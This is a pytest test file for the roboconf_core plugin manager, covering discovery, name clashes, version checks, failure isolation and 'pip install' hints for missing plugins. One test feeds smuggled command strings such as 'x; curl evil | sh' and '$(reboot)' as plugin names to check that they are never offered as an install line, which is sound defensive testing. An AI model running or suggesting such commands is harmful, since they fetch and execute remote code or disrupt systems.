"""Plugins are found, checked and kept by name; one that is broken never takes the rest down."""

import importlib.metadata
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

from roboconf_core.errors import Code, PluginError, Problem
from roboconf_core.hooks.lifecycle import Command, LifecycleHandler
from roboconf_core.hooks.manager import load_plugins
from roboconf_core.hooks.specs import hookimpl
from roboconf_core.model.graph import Component

COMPONENT = Component(name="Tomcat", installer="greet")


def handler(*names):
    class Handler(LifecycleHandler):
        def supports(self, action, directory):
            return True

        def command_for(self, context):
            return Command(argv=("/bin/true",), directory=context.directory)

    Handler.names = names
    return Handler()


def offering(*handlers):
    @hookimpl
    def roboconf_lifecycle_handlers():
        return list(handlers)

    return SimpleNamespace(roboconf_lifecycle_handlers=roboconf_lifecycle_handlers)


def checking(function):
    return SimpleNamespace(roboconf_check_recipe=hookimpl(function, specname="roboconf_check_recipe"))


def load(**modules):
    return load_plugins(entry_points=False, modules=modules)


def only_problem(plugins):
    (problem,) = plugins.problems
    return problem


def test_a_handler_is_found_by_each_of_its_names_in_any_case():
    greet = handler("Greet", "hello")
    plugins = load(greeter=offering(greet))
    assert plugins.installer("gREET") is greet
    assert plugins.installer("hello") is greet
    assert plugins.problems == []


def test_two_managers_share_no_plugins():
    load(greeter=offering(handler("greet")))
    with pytest.raises(PluginError):
        load().installer("greet")


def test_a_name_offered_twice_stays_with_the_first_and_names_both_owners():
    first, second = handler("greet"), handler("welcome", "GREET")
    plugins = load(one=offering(first), two=offering(second))
    assert plugins.installer("greet") is first
    problem = only_problem(plugins)
    assert problem.code is Code.PLUGIN_DUPLICATE_NAME
    assert "'one'" in problem.message
    assert "'two'" in problem.message
    with pytest.raises(PluginError):
        plugins.installer("welcome")


def test_a_plugin_for_another_contract_version_is_refused_and_the_rest_is_loaded():
    other = offering(handler("greet"))
    other.roboconf_api_version = 99
    plugins = load(other=other, fine=offering(handler("fine")))
    assert only_problem(plugins).code is Code.PLUGIN_API_VERSION
    assert "99" in only_problem(plugins).message
    assert plugins.installer("fine")


def test_a_plugin_may_declare_the_present_contract_version():
    module = offering(handler("greet"))
    module.roboconf_api_version = 1
    assert load(greeter=module).problems == []


def test_a_misspelt_hook_is_an_error_with_the_right_spelling():
    def roboconf_lifecycle_handler():
        return []

    plugins = load(greeter=SimpleNamespace(roboconf_lifecycle_handler=hookimpl(roboconf_lifecycle_handler)))
    problem = only_problem(plugins)
    assert problem.code is Code.PLUGIN_UNKNOWN_HOOK
    assert problem.hint == "did you mean 'roboconf_lifecycle_handlers'?"


def test_a_hook_with_an_unknown_argument_is_refused_and_the_rest_is_loaded():
    def roboconf_lifecycle_handlers(colour):
        return []

    wrong = SimpleNamespace(roboconf_lifecycle_handlers=hookimpl(roboconf_lifecycle_handlers))
    plugins = load(wrong=wrong, fine=offering(handler("fine")))
    assert only_problem(plugins).code is Code.PLUGIN_FAILED_TO_LOAD
    assert "colour" in only_problem(plugins).message
    assert plugins.installer("fine")


def test_a_plugin_that_fails_to_answer_is_reported_by_name_and_the_rest_is_loaded():
    @hookimpl
    def roboconf_lifecycle_handlers():
        raise RuntimeError("no coffee")

    broken = SimpleNamespace(roboconf_lifecycle_handlers=roboconf_lifecycle_handlers)
    plugins = load(broken=broken, fine=offering(handler("fine")))
    problem = only_problem(plugins)
    assert problem.code is Code.PLUGIN_FAILED
    assert "'broken'" in problem.message
    assert "no coffee" in problem.message
    assert plugins.installer("fine")


@pytest.mark.parametrize("offer", ["greet", object(), handler(), handler(""), handler(7)])
def test_an_offer_that_does_not_keep_the_contract_is_reported_and_the_others_count(offer):
    plugins = load(odd=offering(offer, handler("fine")))
    problem = only_problem(plugins)
    assert problem.code is Code.PLUGIN_FAILED
    assert "LifecycleHandler" in problem.hint
    assert plugins.installer("fine")


def test_recipes_are_checked_by_all_plugins_and_arguments_may_be_left_out():
    found = Problem(Code.REC_TEMPLATE_INVALID, "odd")
    asked = []

    def by_directory(directory):
        asked.append(directory)
        return [found]

    def by_all(component, installer, directory):
        asked.append((component.name, installer, directory))
        return []

    plugins = load(one=checking(by_directory), two=checking(by_all))
    assert plugins.check_recipe(COMPONENT, "greet", Path("r")) == [found]
    assert Path("r") in asked
    assert ("Tomcat", "greet", Path("r")) in asked


def test_a_plugin_that_fails_over_a_recipe_is_a_problem_and_the_others_are_asked():
    found = Problem(Code.REC_TEMPLATE_INVALID, "odd")

    def failing(directory):
        raise OSError("disk on fire")

    plugins = load(bad=checking(failing), good=checking(lambda directory: [found]))
    problems = plugins.check_recipe(COMPONENT, "greet", Path("r"))
    assert found in problems
    (other,) = (p for p in problems if p is not found)
    assert other.code is Code.PLUGIN_FAILED
    assert "'bad'" in other.message
    assert "disk on fire" in other.message


def test_a_file_of_a_recipe_that_cannot_be_read_is_a_problem_at_its_place_not_a_defect(tmp_path):
    plugins = load(one=checking(lambda directory: [(directory / "start.sh").read_text()]))
    (problem,) = plugins.check_recipe(COMPONENT, "greet", tmp_path)
    assert problem.code is Code.P_IO_ERROR
    assert problem.where.file == str(tmp_path / "start.sh")
    assert problem.message == "cannot be read: No such file or directory"


def not_installed(name):
    raise importlib.metadata.PackageNotFoundError(name)


@pytest.mark.parametrize(
    ("kind", "name", "distribution"),
    [
        ("target", "openstack", "roboconf-openstack"),
        ("target", "IaaS-EC2", "roboconf-aws"),
        ("target", "embedded", "roboconf-local"),
        ("installer", "script", "roboconf-bash"),
        ("transport", "rabbitmq", "roboconf-rabbitmq"),
    ],
)
def test_a_missing_plugin_gives_the_line_to_type(kind, name, distribution, monkeypatch):
    monkeypatch.setattr(importlib.metadata, "distribution", not_installed)
    with pytest.raises(PluginError) as caught:
        getattr(load(), kind)(name)
    (problem,) = caught.value.problems
    assert problem.code is Code.PLUGIN_NOT_FOUND
    assert problem.hint == f"pip install {distribution}"
    assert f"'{name}'" in problem.message


def test_a_plugin_that_is_installed_and_offers_no_such_thing_is_not_to_be_installed_again(monkeypatch):
    monkeypatch.setattr(importlib.metadata, "distribution", lambda name: name)
    with pytest.raises(PluginError) as caught:
        load().installer("puppet")
    (problem,) = caught.value.problems
    assert problem.hint.startswith("'roboconf-puppet' is installed, but offers no such thing")


def test_a_slip_in_a_name_is_answered_with_the_name_that_is_meant():
    with pytest.raises(PluginError, match="did you mean 'greet'"):
        load(greeter=offering(handler("greet"))).installer("gret")


@pytest.mark.parametrize("name", ["x; curl evil | sh", "-r", "a b", "$(reboot)", ""])
def test_what_is_no_name_never_becomes_a_line_to_type(name):
    with pytest.raises(PluginError) as caught:
        load().installer(name)
    assert "pip" not in caught.value.problems[0].hint


@pytest.fixture
def installed(tmp_path, monkeypatch):
    """Install distributions for this test: name of the module to its text."""

    def install(**modules):
        for name, text in modules.items():
            (tmp_path / f"plugged_{name}.py").write_text(text)
            about = tmp_path / f"roboconf_{name}-1.2.dist-info"
            about.mkdir()
            (about / "METADATA").write_text(f"Metadata-Version: 2.1\nName: roboconf-{name}\nVersion: 1.2\n")
            (about / "entry_points.txt").write_text(f"[roboconf]\n{name} = plugged_{name}\n")
        monkeypatch.syspath_prepend(str(tmp_path))

    yield install
    for name in [name for name in sys.modules if name.startswith("plugged_")]:
        del sys.modules[name]


GREETER = """
from roboconf_core.hooks.lifecycle import LifecycleHandler
from roboconf_core.hooks.specs import hookimpl

class Greeter(LifecycleHandler):
    names = ("greet",)
    def supports(self, action, directory):
        return False
    def command_for(self, context):
        return None

@hookimpl
def roboconf_lifecycle_handlers():
    return [Greeter()]
"""


def test_installed_plugins_are_known_with_distribution_and_version(installed):
    installed(greeter=GREETER)
    plugins = load_plugins()
    (plugin,) = (plugin for plugin in plugins.all if plugin.name == "greeter")
    assert (plugin.distribution, plugin.version) == ("roboconf-greeter", "1.2")
    assert plugins.installer_versions()["greet"] == "1.2"


@pytest.mark.parametrize(
    "text", ["import does_not_exist", "raise RuntimeError('no coffee')", "raise SystemExit(3)", "def"]
)
def test_an_installed_plugin_that_fails_to_load_is_reported_and_the_rest_is_loaded(installed, text):
    installed(broken=text, greeter=GREETER)
    plugins = load_plugins()
    (plugin,) = (plugin for plugin in plugins.all if plugin.name == "broken")
    (problem,) = plugin.problems
    assert problem.code is Code.PLUGIN_FAILED_TO_LOAD
    assert "'broken'" in problem.message
    assert plugins.installer("greet")
